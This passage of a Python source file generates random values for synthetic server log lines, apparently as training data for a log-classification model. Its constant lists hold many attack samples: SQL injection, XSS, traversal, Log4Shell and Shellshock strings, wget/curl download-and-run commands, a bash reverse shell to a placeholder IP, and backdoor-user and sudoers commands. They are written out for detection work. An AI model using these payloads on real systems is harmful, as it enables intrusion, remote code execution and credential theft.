# ruff: noqa: E501  (long literal sample values read better unwrapped)
"""Realistic random values for synthetic log lines.

Every value a template needs comes from a `Values` instance bound to one seeded
`random.Random`, so a seed reproduces the same lines. The generators favour the
shapes attackers and real servers actually produce: public and private IPv4,
IPv6 in its several notations, reverse-DNS host names, dictionary user names and
hostile ones (quotes, unicode, injection strings), URLs carrying SQLi, XSS,
traversal, command injection, Log4Shell and Shellshock payloads.
"""

from __future__ import annotations

import random
import string
from collections.abc import Callable, Sequence
from typing import TypeVar

from logsentry.train.data import attack_vocab

T = TypeVar("T")

_HEX = "0123456789abcdef"
_ALNUM = string.ascii_letters + string.digits
_MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
_DAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")

TEMPLATE_WORD_USERS = (
    "user", "invalid", "admin", "login", "test", "from", "password", "root", "guest", "port",
    "failed", "for", "auth", "session", "unknown",
)
COMMON_USERS = (
    "root", "admin", "test", "user", "guest", "oracle", "ubuntu", "pi", "git", "postgres",
    "mysql", "ftpuser", "support", "www-data", "deploy", "jenkins", "ansible", "centos", "ec2-user",
    "administrator", "nagios", "hadoop", "tomcat", "minecraft", "steam", "teamspeak", "vagrant",
    "docker", "backup", "operator", "info", "webmaster", "sales", "office", "postfix", "mail",
    "debian", "azureuser", "odoo", "elastic", "redis", "zabbix", "apache", "nginx", "user1",
    "test1", "demo", "sysadmin", "server", "dev", "developer", "testuser", "alex", "john",
    # Dictionary words attackers try: the model must take a word for a user by its place,
    # not call every English word template text.
    "ftp", "default", "anonymous", "sshd", "daemon", "bin", "www", "web", "games", "service",
    "system", "password", "login", "shell", "public", "invalid", "user2", "admin1", "ubnt",
    "usuario", "manager", "master", "monitor", "guest1", "sync", "halt", "student", "upload",
)
# Names that are everyday words of other log templates ("kernel: boot ...", "session
# opened", "disk error"): attackers' dictionaries hold any word, and a model that has only
# seen "boot" as template text calls "Invalid user boot" a template of its own.
LOG_WORD_USERS = (
    "boot", "kernel", "error", "warning", "start", "stop", "started", "status", "update",
    "config", "client", "connection", "network", "device", "disk", "memory", "process",
    "request", "response", "message", "event", "data", "file", "local", "remote", "host",
    "time", "check", "debug", "notice", "alert", "close", "open", "new", "old", "run",
)
FIRST_NAMES = (
    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory",
    "oscar", "peggy", "trent", "victor", "walter", "maria", "jose", "wei", "yuki", "olga", "ahmed",
    "fatima", "lars", "pierre", "giulia", "sven", "anna", "pablo", "nina", "kenji", "priya",
)
LAST_NAMES = (
    "smith", "jones", "garcia", "miller", "davis", "martin", "muller", "rossi", "dubois", "novak",
    "kowalski", "tanaka", "nguyen", "kim", "silva", "johansson", "ivanov", "lee", "brown", "khan",
)
# Names an attacker can put in a user field: they must still be labelled exactly.
ODD_USERS = (
    "müller", "José", "пользователь", "用户", "admin'--", "' OR '1'='1", "a\"b", "$(id)", "`reboot`",
    "${jndi:ldap://x.y/a}", "<script>", "ROOT", "Admin", "-", "0", "1234", "user name",
    "admin;ls", "test\\user", "ñandú", "x" * 40, "DROP TABLE", "%00", "admin@", "O'Brien",
    "ä", "a.b-c_d", "_apt", "nobody", "99999", "👾", "DOMAIN\\admin", "adm%20in",
)
TLDS = ("com", "net", "org", "io", "de", "fr", "ru", "cn", "br", "co.uk", "nl", "info", "biz", "jp")
WORDS = (
    "alpha", "beta", "gamma", "delta", "mail", "web", "srv", "node", "edge", "core", "db", "cache",
    "proxy", "api", "app", "auth", "vpn", "gw", "backup", "files", "media", "static", "cdn", "ns",
    "mx", "smtp", "imap", "pop", "shop", "blog", "forum", "git", "ci", "build", "monitor", "log",
    "kube", "worker", "storage", "search", "portal", "intranet", "dev", "prod", "stage", "test",
)
SERVICE_UNITS = (
    "nginx", "apache2", "httpd", "sshd", "ssh", "postfix", "dovecot", "mysql", "mariadb",
    "postgresql", "redis-server", "docker", "containerd", "kubelet", "cron", "rsyslog", "fail2ban",
    "systemd-journald", "systemd-resolved", "systemd-networkd", "chronyd", "ntpd", "named",
    "php8.2-fpm", "php7.4-fpm", "grafana-server", "gitlab-runsvdir", "elasticsearch", "mongod",
    "exim4", "clamav-daemon", "clamav-freshclam", "snapd", "unattended-upgrades", "apt-daily",
    "logrotate", "man-db", "ufw", "nftables", "haproxy", "squid", "openvpn-server@server",
    "wg-quick@wg0", "vsftpd", "proftpd", "pure-ftpd", "memcached", "rabbitmq-server", "tomcat9",
    "jenkins", "prometheus-node-exporter", "zabbix-agent", "suricata", "auditd", "xrdp", "webmin",
)
PROGRAMS = (
    "bash", "python3", "perl", "java", "node", "php-fpm8.2", "nginx", "apache2", "mysqld",
    "postgres", "redis-server", "containerd-shim", "dockerd", "kubelet", "chrome", "firefox",
    "Xorg", "gnome-shell", "sshd", "cron", "rsync", "curl", "wget", "gzip", "tar", "vim",
    "a.out", "kworker", "xmrig", "kdevtmpfsi", "ld-linux-x86-64", "busybox", ".x", "systemd",
)
# Package names, with programs that other families write about (installing sudo or nmap
# is neither a privilege change nor an attack).
PACKAGES = (
    "libc6", "libssl3", "openssl", "zlib1g", "libsystemd0", "systemd", "bash", "coreutils",
    "tzdata", "ca-certificates", "curl", "wget", "git", "vim", "nano", "python3", "perl",
    "nginx", "apache2", "mariadb-server", "postgresql-15", "redis-server", "docker-ce",
    "containerd.io", "linux-image-amd64", "linux-headers-6.1.0-18-amd64", "grub-pc",
    "sudo", "openssh-server", "openssh-client", "passwd", "login", "libpam-modules",
    "nmap", "netcat-openbsd", "tcpdump", "wireshark-common", "john", "hydra", "socat",
    "clamav", "clamav-freshclam", "fail2ban", "crowdsec", "auditd", "apparmor", "ufw",
    "iptables", "nftables", "rkhunter", "chkrootkit", "aide", "gnupg", "kernel", "glibc",
    "openssl-libs", "shadow-utils", "polkit", "dbus", "cron", "rsyslog", "logrotate",
    "unattended-upgrades", "apt", "dpkg", "snapd", "firefox-esr", "chromium", "xz-utils",
    "bind9", "postfix", "dovecot-core", "exim4", "samba", "nfs-common", "wireguard-tools",
)
FILE_EXTENSIONS = ("php", "html", "js", "css", "png", "jpg", "txt", "json", "xml", "gz", "zip", "sh")
WEB_DIRS = (
    "", "admin", "api/v1", "api/v2", "wp-admin", "wp-content/uploads", "static", "assets", "images",
    "blog", "shop", "user", "account", "login", "cgi-bin", "phpmyadmin", "vendor", "old", "backup",
    ".git", ".env", "uploads", "media", "download", "docs", "search", "catalog/product", "rest",
)
WEB_FILES = (
    "index.php", "login.php", "wp-login.php", "xmlrpc.php", "admin.php", "config.php", "index.html",
    "app.js", "style.css", "logo.png", "favicon.ico", "robots.txt", "sitemap.xml", "phpinfo.php",
    "shell.php", "test.php", "upload.php", "setup.php", "info.php", "server-status", "HEAD",
    "config", "backup.zip", "db.sql", "status", "health", "metrics", "graphql", "search",
)
_PROBED_DIRS = frozenset({"wp-admin", "wp-content/uploads", "cgi-bin", "phpmyadmin", "vendor", "old",
                          "backup", ".git", ".env", "uploads"})
_PROBED_FILES = frozenset({"wp-login.php", "xmlrpc.php", "admin.php", "config.php", "phpinfo.php", "shell.php",
                           "test.php", "upload.php", "setup.php", "info.php", "server-status", "HEAD",
                           "config", "backup.zip", "db.sql"})
ORDINARY_WEB_DIRS = tuple(d for d in WEB_DIRS if d not in _PROBED_DIRS)
ORDINARY_WEB_FILES = tuple(f for f in WEB_FILES if f not in _PROBED_FILES)
QUERY_KEYS = ("id", "page", "q", "s", "user", "lang", "sort", "cat", "ref", "token", "file", "redirect",
              "next", "action", "cmd", "debug", "item", "limit", "offset", "utm_source", "p")
ATTACK_QUERIES = (
    "id=1' OR '1'='1", "id=1%27%20OR%201=1--", "id=1 UNION SELECT username,password FROM users--",
    "q=%27%20union%20select%20null,null,version()--%20-", "id=1;DROP TABLE users",
    "user=admin'/*", "id=-1+union+all+select+1,2,3,concat(user(),0x3a,database())--+",
    "q=<script>alert(1)</script>", "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "name=\"><img src=x onerror=alert(1)>", "s=<svg/onload=alert`1`>",
    "file=../../../../etc/passwd", "page=..%2f..%2f..%2fetc%2fshadow", "path=....//....//etc/hosts",
    "file=php://filter/convert.base64-encode/resource=index.php", "lang=../../../../proc/self/environ",
    "cmd=;cat /etc/passwd", "ip=127.0.0.1|id", "host=x;wget http://203.0.113.7/x.sh -O- | sh",
    "exec=$(curl -s http://198.51.100.9/a|bash)", "q=${jndi:ldap://198.51.100.23:1389/Exploit}",
    "x=${${lower:j}ndi:${lower:r}mi://evil.example/a}", "url=http://169.254.169.254/latest/meta-data/",
    "redirect=//evil.example.com", "debug=true&cmd=whoami", "a=%00%00%00", "template={{7*7}}",
    "search=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.5%2Fz%7D", "XDEBUG_SESSION_START=phpstorm",
)
ATTACK_PATHS = (
    "/cgi-bin/../../../../etc/passwd", "/..%2f..%2f..%2f..%2fetc/passwd", "/.env", "/.git/config",
    "/wp-config.php.bak", "/phpmyadmin/index.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/shell.php", "/wp-admin/admin-ajax.php",
    "/solr/admin/info/system", "/HNAP1/", "/boaform/admin/formLogin", "/actuator/env",
    "/console/login/LoginForm.jsp", "/owa/auth/logon.aspx", "/.aws/credentials", "/server-status",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system",
    "/cgi-bin/luci/;stok=/locale", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/manager/html", "/xmlrpc.php", "/wp-login.php", "/admin/config.php", "/etc/passwd",
    "/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "/api/v1/pods", "/containers/json", "/setup.cgi",
    "//admin/pma/scripts/setup.php", "/pma/scripts/setup.php", "/myadmin/scripts/setup.php",
    "/cgi-bin/test-cgi", "/cgi-bin/php5", "/w00tw00t.at.ISC.SANS.DFind:)", "/muieblackcat",
    "/azenv.php", "/proxy.php", "/wp-content/plugins/revslider/temp/update_extract/shell.php",
    "/cgi-bin/tools/tools.pl", "/webdav/", "/sql/phpmanager/", "/phpMyAdmin-2.11.4/scripts/setup.php",
    "/.well-known/../../etc/passwd", "/wp-includes/wlwmanifest.xml", "/_ignition/execute-solution",
    "/cgi-bin/mainfunction.cgi", "/GponForm/diag_Form?images/", "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.4/jaws",
)
SHELLSHOCK = ("() { :; }; /bin/bash -c \"cat /etc/passwd\"", "() { :;}; echo; /usr/bin/id",
              "() { ignored; }; /bin/sh -c 'wget http://203.0.113.99/b -O /tmp/b'")
USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Mobile/15E148",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "curl/7.88.1", "curl/8.5.0", "Wget/1.21.3", "python-requests/2.31.0", "Go-http-client/1.1",
    "Go-http-client/2.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.8)", "okhttp/4.12.0", "Java/1.8.0_392", "-",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Mobile Safari/537.36",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Prometheus/2.51.0", "kube-probe/1.29", "ELB-HealthChecker/2.0", "Zabbix",
)
HTTP_METHODS = ("GET", "GET", "GET", "GET", "POST", "POST", "HEAD", "PUT", "DELETE", "OPTIONS",
                "PATCH", "PROPFIND", "CONNECT")
HTTP_STATUSES = ("200", "200", "200", "200", "301", "302", "304", "400", "401", "403", "404", "404",
                 "405", "408", "413", "429", "444", "499", "500", "502", "503", "504", "206", "201")
COMMANDS = (
    "/usr/bin/apt update", "/usr/bin/systemctl restart nginx", "/bin/cat /etc/shadow",
    "/usr/bin/vim /etc/ssh/sshd_config", "/bin/bash", "/usr/bin/docker ps -a", "/bin/su -",
    "/usr/sbin/iptables -L -n", "/usr/bin/tail -f /var/log/auth.log", "/usr/bin/id",
    "/usr/bin/journalctl -u sshd --since today", "/bin/chmod 777 /tmp/x", "/usr/bin/passwd root",
    "/usr/bin/find / -perm -4000", "/usr/bin/python3 -c import pty;pty.spawn('/bin/bash')",
    "/usr/sbin/useradd -m backdoor", "/usr/bin/crontab -e", "/bin/rm -rf /var/tmp/cache",
    "/usr/bin/curl -s http://203.0.113.8/i.sh", "/usr/bin/kubectl get pods -A", "/usr/bin/ls /root",
    "/usr/bin/tee /etc/sudoers.d/99-nopasswd", "/usr/local/bin/deploy.sh --env prod",
)
SHELL_LINES = (
    "/bin/sh -c wget http://203.0.113.8/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
    "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1", "echo ZWNobyBoYWNrZWQ= | base64 -d | sh",
    "/usr/bin/run-parts --report /etc/cron.hourly", "php /var/www/html/artisan schedule:run",
    "/usr/lib/php/sessionclean", "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
    "/usr/bin/certbot -q renew", "/usr/local/bin/backup.sh >/dev/null 2>&1",
    "python3 /opt/app/manage.py clearsessions", "/usr/bin/flock -n /tmp/sync.lock rsync -a /srv/ /mnt/b/",
    "curl -fsSL http://203.0.113.77/k.sh | bash", "/usr/sbin/logrotate /etc/logrotate.conf",
)
SENSITIVE_FILES = (
    "/etc/passwd", "/etc/shadow", "/etc/sudoers", "/etc/ssh/sshd_config", "/root/.ssh/authorized_keys",
    "/etc/crontab", "/etc/hosts", "/var/log/auth.log", "/etc/pam.d/common-auth", "/etc/group",
    "/etc/nginx/nginx.conf", "/etc/mysql/my.cnf", "/home/{u}/.bash_history", "/etc/ld.so.preload",
)
MALWARE_NAMES = (
    "Unix.Trojan.Mirai-7100807-0", "Win.Test.EICAR_HDB-1", "Php.Webshell.C99-1", "Unix.Malware.Kaiji-1",
    "Multios.Coinminer.Miner-6781728-2", "Eicar-Signature", "Unix.Exploit.Dirtycow-1",
    "Html.Phishing.Bank-1", "Doc.Downloader.Emotet-7580152-0", "Php.Trojan.Backdoor-4",
)
DOMAIN_WORDS = ("example", "acme", "contoso", "initech", "globex", "umbrella", "hooli", "wayne",
                "stark", "tyrell", "cyberdyne", "soylent", "vandelay", "massive", "wonka")
ISP_WORDS = ("dsl", "dyn", "pool", "cable", "static", "customer", "res", "broadband", "ip", "host")


class Values:
    """Random value generators bound to one seeded `random.Random`."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self._last_path = "/"

    # ---- helpers -------------------------------------------------------------------
    def pick(self, items: Sequence[T]) -> T:
        return items[self.rng.randrange(len(items))]

    def chance(self, p: float) -> bool:
        return self.rng.random() < p

    def digits(self, n: int) -> str:
        return "".join(self.rng.choice(string.digits) for _ in range(n))

    def hexstr(self, n: int) -> str:
        return "".join(self.rng.choice(_HEX) for _ in range(n))

    def alnum(self, n: int) -> str:
        return "".join(self.rng.choice(_ALNUM) for _ in range(n))

    # ---- network -------------------------------------------------------------------
    def ipv4(self) -> str:
        r = self.rng
        kind = r.random()
        if kind < 0.15:
            return f"10.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"
        if kind < 0.25:
            return f"192.168.{r.randrange(256)}.{r.randrange(1, 255)}"
        if kind < 0.30:
            return f"172.{r.randrange(16, 32)}.{r.randrange(256)}.{r.randrange(1, 255)}"
        if kind < 0.36:
            return self.pick(("192.0.2", "198.51.100", "203.0.113")) + f".{r.randrange(1, 255)}"
        first = r.choice((r.randrange(1, 224), r.randrange(1, 224), 45, 185, 91, 103, 193, 218, 61))
        if first in (10, 127):
            first = 11
        return f"{first}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"

    def ipv6(self) -> str:
        r = self.rng
        kind = r.random()
        groups = [f"{r.randrange(0x10000):x}" for _ in range(8)]
        if kind < 0.30:
            prefix = self.pick(("2001:db8", "2a01:4f8", "2600:1f18", "2a00:1450", "2606:4700",
                                "2001:41d0", "2a02:c207", "2409:8a55", "2804:14c"))
            tail = ":".join(groups[: r.randrange(1, 4)])
            return f"{prefix}::{tail}"
        if kind < 0.45:
            return ":".join(groups)  # full, leading zeros dropped
        if kind < 0.55:
            return ":".join(f"{r.randrange(0x10000):04x}" for _ in range(8))  # zero-padded
        if kind < 0.65:
            # IPv4-mapped addresses come from templates (`::ffff:{ipv4:sip}`): the IPv4 part is
            # the address, as fail2ban and most CrowdSec parsers report it.
            return f"{groups[0]}:{groups[1]}::{groups[2]}"
        if kind < 0.72:
            return f"fe80::{groups[0]}:{groups[1][:2]}ff:fe{groups[2][:2]}:{groups[3]}"
        if kind < 0.80:
            return ":".join(groups[:4]).upper() + "::" + groups[4].upper()
        if kind < 0.85:
            return "::1"
        return f"{groups[0]}:{groups[1]}:{groups[2]}::{groups[3]}"

    def ip(self) -> str:
        return self.ipv6() if self.chance(0.2) else self.ipv4()

    def mac(self) -> str:
        return ":".join(self.hexstr(2) for _ in range(6))

    def port(self) -> str:
        if self.chance(0.2):
            return self.pick(("22", "80", "443", "25", "587", "993", "3306", "5432", "8080", "3389",
                              "21", "23", "445", "6379", "27017", "8443", "53", "123", "1194"))
        return str(self.rng.randrange(1024, 65536))

    def service_port(self) -> str:
        return self.pick(("22", "80", "443", "25", "465", "587", "110", "143", "993", "995", "21",
                          "23", "3306", "5432", "3389", "445", "139", "8080", "8443", "6379",
                          "27017", "9200", "5900", "1433", "53", "161", "2222", "10000", "11211"))

    def hostname(self) -> str:
        """A DNS name as it appears in logs (reverse DNS of clients, mail peers)."""
        r = self.rng
        kind = r.random()
        dom = f"{self.pick(DOMAIN_WORDS)}.{self.pick(TLDS)}"
        if kind < 0.3:
            return f"{self.pick(WORDS)}{r.randrange(1, 20) if r.random() < 0.5 else ''}.{dom}"
        if kind < 0.55:
            a, b, c, d = (r.randrange(256) for _ in range(4))
            sep = self.pick(("-", ".", "-"))
            return (f"{self.pick(ISP_WORDS)}{sep}{a}{sep}{b}{sep}{c}{sep}{d}."
                    f"{self.pick(ISP_WORDS)}.{self.pick(DOMAIN_WORDS)}{self.pick(('-isp', 'net', ''))}"
                    f".{self.pick(TLDS)}")
        if kind < 0.6:
            a, b, c, d = (r.randrange(256) for _ in range(4))
            return f"ec2-{a}-{b}-{c}-{d}.compute-1.amazonaws.com"
        if kind < 0.65:
            # Reverse DNS that starts with the address itself: "5.36.59.76.dsl.example.net".
            a, b, c, d = (r.randrange(1, 256) for _ in range(4))
            sep = self.pick((".", "-"))
            return (f"{a}{sep}{b}{sep}{c}{sep}{d}.{self.pick(ISP_WORDS)}."
                    f"{self.pick(DOMAIN_WORDS)}.{self.pick(TLDS)}")
        if kind < 0.8:
            return f"{self.alnum(r.randrange(5, 14)).lower()}.{self.pick(TLDS)}"
        return dom

    def short_host(self) -> str:
        """A machine's own short name (syslog HOSTNAME field)."""
        r = self.rng
        kind = r.random()
        if kind < 0.4:
            return f"{self.pick(WORDS)}{r.randrange(1, 40):02d}"
        if kind < 0.6:
            return f"{self.pick(WORDS)}-{self.pick(WORDS)}-{r.randrange(1, 9)}"
        if kind < 0.7:
            return f"ip-{r.randrange(10, 173)}-{r.randrange(256)}-{r.randrange(256)}-{r.randrange(256)}"
        if kind < 0.8:
            return f"{self.pick(WORDS)}.{self.pick(DOMAIN_WORDS)}.{self.pick(TLDS)}"
        if kind < 0.9:
            return self.pick(FIRST_NAMES) + "-" + self.pick(("laptop", "pc", "desktop", "vm", "box"))
        return self.alnum(8).lower()

    def source(self) -> str:
        """What a daemon logs as the remote side: an IP mostly, a resolved name sometimes."""
        return self.hostname() if self.chance(0.15) else self.ip()

    # ---- identities ----------------------------------------------------------------
    def user(self) -> str:
        r = self.rng.random()
        if r < 0.05:
            # Names that are also the template's own words ("Invalid user user from"): the
            # model must read a user by its place, not by the word.
            return self.pick(TEMPLATE_WORD_USERS)
        if r < 0.08:
            return self.pick(LOG_WORD_USERS)
        if r < 0.45:
            return self.pick(COMMON_USERS)
        if r < 0.6:
            return self.pick(FIRST_NAMES)
        if r < 0.7:
            return f"{self.pick(FIRST_NAMES)}.{self.pick(LAST_NAMES)}"
        if r < 0.78:
            return f"{self.pick(FIRST_NAMES)[0]}{self.pick(LAST_NAMES)}{self.rng.randrange(100)}"
        if r < 0.86:
            return self.pick(FIRST_NAMES) + self.digits(self.rng.randrange(1, 4))
        if r < 0.9:
            return self.alnum(self.rng.randrange(3, 12)).lower()
        return self.odd_user()

    def plain_user(self) -> str:
        """A user name without spaces or quoting trouble (for formats that cannot carry them)."""
        r = self.rng.random()
        if r < 0.55:
            return self.pick(COMMON_USERS)
        if r < 0.75:
            return self.pick(FIRST_NAMES)
        if r < 0.9:
            return f"{self.pick(FIRST_NAMES)}.{self.pick(LAST_NAMES)}"
        return self.pick(FIRST_NAMES) + self.digits(2)

    def odd_user(self) -> str:
        return self.pick(ODD_USERS)

    def email(self) -> str:
        return f"{self.plain_user()}@{self.pick(DOMAIN_WORDS)}.{self.pick(TLDS)}"

    def mail_user(self) -> str:
        return self.email() if self.chance(0.5) else self.plain_user()

    def uid(self) -> str:
        return self.pick(("0", "0", "33", "1000", "1001", "1002", "65534", "999", "110"))

    def group(self) -> str:
        return self.pick(("sudo", "wheel", "adm", "docker", "users", "staff", "www-data", "admin",
                          "developers", "ssh-users", "lxd", "libvirt", "audio", "video", "plugdev"))

    # ---- processes and files -------------------------------------------------------
    def pid(self) -> str:
        r = self.rng.random()
        if r < 0.5:
            return str(self.rng.randrange(100, 40000))
        if r < 0.9:
            return str(self.rng.randrange(40000, 4194304))
        return str(self.rng.randrange(2, 100))

    def program(self) -> str:
        return self.pick(PROGRAMS)

    def unit(self) -> str:
        return self.pick(SERVICE_UNITS)

    def command(self) -> str:
        return self.pick(COMMANDS)

    def shell_line(self) -> str:
        return self.pick(SHELL_LINES)

    def path(self) -> str:
        r = self.rng.random()
        if r < 0.3:
            return self.pick(SENSITIVE_FILES).replace("{u}", self.plain_user())
        if r < 0.55:
            return (f"/var/www/{self.pick(('html', 'vhosts/' + self.pick(DOMAIN_WORDS), 'app'))}/"
                    f"{self.pick(WEB_DIRS) + '/' if self.chance(0.5) else ''}{self.pick(WEB_FILES)}")
        if r < 0.75:
            return (f"/home/{self.plain_user()}/{self.pick(('Downloads', '.cache', 'tmp', 'www', 'bin'))}/"
                    f"{self.alnum(6).lower()}.{self.pick(FILE_EXTENSIONS)}")
        if r < 0.9:
            return f"/tmp/{self.pick(('.x', 'kinsing', 'tmp', 'sess_', '.ICE-unix/', ''))}{self.alnum(8)}"
        return f"/srv/{self.pick(WORDS)}/{self.pick(WORDS)}/{self.alnum(5).lower()}.{self.pick(FILE_EXTENSIONS)}"

    def malware(self) -> str:
        return self.pick(MALWARE_NAMES)

    # ---- web -----------------------------------------------------------------------
    def method(self) -> str:
        return self.pick(HTTP_METHODS)

    def status(self) -> str:
        return self.pick(HTTP_STATUSES)

    def url_path(self) -> str:
        """A benign request target, often with a query string."""
        # Ordinary directories and files only: a probe of `.git` or `shell.php` labelled
        # `web_request` would teach the model that probes are ordinary requests.
        d = self.pick(ORDINARY_WEB_DIRS)
        base = f"/{d}/" if d else "/"
        if self.chance(0.7):
            base += self.pick(ORDINARY_WEB_FILES) if self.chance(0.6) else f"{self.alnum(6).lower()}.{self.pick(FILE_EXTENSIONS)}"
        if self.chance(0.4):
            n = self.rng.randrange(1, 4)
            base += "?" + "&".join(f"{self.pick(QUERY_KEYS)}={self.alnum(self.rng.randrange(1, 9))}"
                                   for _ in range(n))
        return base

    def attack_url(self) -> str:
        """A request target carrying an attack payload."""
        r = self.rng.random()
        if r < 0.45:
            d = self.pick(WEB_DIRS)
            return f"/{d + '/' if d else ''}{self.pick(WEB_FILES)}?{self.pick(ATTACK_QUERIES)}"
        if r < 0.9:
            return self.pick(ATTACK_PATHS)
        return f"/?{self.pick(QUERY_KEYS)}={self.pick(ATTACK_QUERIES).split('=', 1)[1]}"

    def url(self) -> str:
        return self.attack_url() if self.chance(0.25) else self.url_path()

    def full_url(self) -> str:
        scheme = self.pick(("http", "https"))
        return f"{scheme}://{self.hostname()}{self.url_path()}"

    def user_agent(self) -> str:
        return self.pick(USER_AGENTS)

    def vhost(self) -> str:
        return f"{self.pick(('www', 'api', 'shop', 'mail', 'app', 'blog'))}.{self.pick(DOMAIN_WORDS)}.{self.pick(TLDS)}"

    def shellshock(self) -> str:
        return self.pick(SHELLSHOCK)

    # ---- numbers -------------------------------------------------------------------
    def size(self) -> str:
        return str(int(self.rng.expovariate(1 / 5000))) if self.chance(0.9) else "0"

    def count(self) -> str:
        return str(self.rng.randrange(1, 20) if self.chance(0.7) else self.rng.randrange(20, 5000))

    def small(self) -> str:
        return str(self.rng.randrange(0, 10))

    def duration_s(self) -> str:
        return f"{self.rng.expovariate(2):.3f}"

    def duration_ms(self) -> str:
        return str(int(self.rng.expovariate(1 / 120)))

    def percent(self) -> str:
        return f"{self.rng.uniform(0, 100):.1f}"

    def hex_id(self) -> str:
        return self.hexstr(self.pick((8, 12, 16, 32, 40, 64)))

    def session_id(self) -> str:
        r = self.rng.random()
        if r < 0.4:
            return self.alnum(self.pick((16, 22, 26, 32)))
        if r < 0.7:
            return f"{self.hexstr(8)}-{self.hexstr(4)}-{self.hexstr(4)}-{self.hexstr(4)}-{self.hexstr(12)}"
        return self.hexstr(self.pick((10, 12, 20)))

    def uuid(self) -> str:
        return f"{self.hexstr(8)}-{self.hexstr(4)}-4{self.hexstr(3)}-{self.pick(('8', '9', 'a', 'b'))}{self.hexstr(3)}-{self.hexstr(12)}"

    def queue_id(self) -> str:
        """A postfix queue id (short hex or long alphanumeric form)."""
        if self.chance(0.6):
            return self.hexstr(self.rng.randrange(9, 12)).upper()
        return "4" + "".join(self.rng.choice("BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz0123456789")
                             for _ in range(11))

    def exim_id(self) -> str:
        return f"1{self.alnum(5)}-{self.alnum(6)}-{self.alnum(2)}"

    def fingerprint(self) -> str:
        import base64
        raw = bytes(self.rng.randrange(256) for _ in range(32))
        return "SHA256:" + base64.b64encode(raw).decode().rstrip("=")

    def key_type(self) -> str:
        return self.pick(("RSA", "ED25519", "ECDSA", "DSA"))

    def tty(self) -> str:
        return self.pick(("pts/0", "pts/1", "pts/2", "pts/3", "tty1", "ssh", "pts/10", "unknown"))

    def iface(self) -> str:
        return self.pick(("eth0", "eth1", "ens3", "ens18", "enp0s3", "eno1", "wlan0", "br0", "docker0",
                          "lo", "wg0", "tun0", "bond0", "venet0", "vmbr0", "enp1s0f0"))

    def proto(self) -> str:
        return self.pick(("TCP", "TCP", "TCP", "UDP", "UDP", "ICMP"))

    def container(self) -> str:
        return self.hexstr(12) if self.chance(0.5) else self.hexstr(64)

    def container_name(self) -> str:
        return f"{self.pick(WORDS)}{self.pick(('-', '_'))}{self.pick(WORDS)}{self.pick(('-1', '_1', ''))}"

    def image(self) -> str:
        return self.pick(("nginx:1.25", "postgres:16", "redis:7-alpine", "grafana/grafana:10.4.1",
                          "ghcr.io/acme/api:v2.3.1", "registry.example.com/web:latest",
                          "xmrig/xmrig:latest", "alpine:3.19", "mysql:8.0", "traefik:v3.0"))

    def pod(self) -> str:
        return f"{self.pick(WORDS)}-{self.pick(WORDS)}-{self.alnum(10).lower()}-{self.alnum(5).lower()}"

    def namespace(self) -> str:
        return self.pick(("default", "kube-system", "monitoring", "prod", "staging", "ingress-nginx",
                          "cert-manager", "argocd", "logging"))

    def db_name(self) -> str:
        return self.pick(("app", "prod", "wordpress", "mydb", "postgres", "admin", "test", "users",
                          "shop", "gitlab_production", "grafana", "nextcloud", "template1"))

    def version(self) -> str:
        return f"{self.rng.randrange(1, 20)}.{self.rng.randrange(0, 30)}.{self.rng.randrange(0, 40)}"

    def package(self) -> str:
        """A package name: libraries, servers, tools, security software among them."""
        return self.pick(PACKAGES) if self.chance(0.8) else (
            f"{self.pick(('lib', 'python3-', 'golang-', 'node-', 'ruby-', 'perl-', 'r-cran-', ''))}"
            f"{self.pick(WORDS)}{self.pick(('', '', '-dev', '-common', '-utils', '-doc', str(self.rng.randrange(1, 9))))}")

    def package_version(self) -> str:
        r = self.rng
        base = f"{r.randrange(0, 30)}.{r.randrange(0, 40)}{self.pick(('', f'.{r.randrange(0, 60)}', f'p{r.randrange(1, 4)}'))}"
        return self.pick((
            f"{base}-{r.randrange(1, 12)}",
            f"{self.pick(('1:', '2:', ''))}{base}-{r.randrange(1, 9)}+deb{r.randrange(9, 13)}u{r.randrange(1, 9)}",
            f"{base}-{r.randrange(0, 9)}ubuntu{r.randrange(0, 6)}.{r.randrange(1, 9)}",
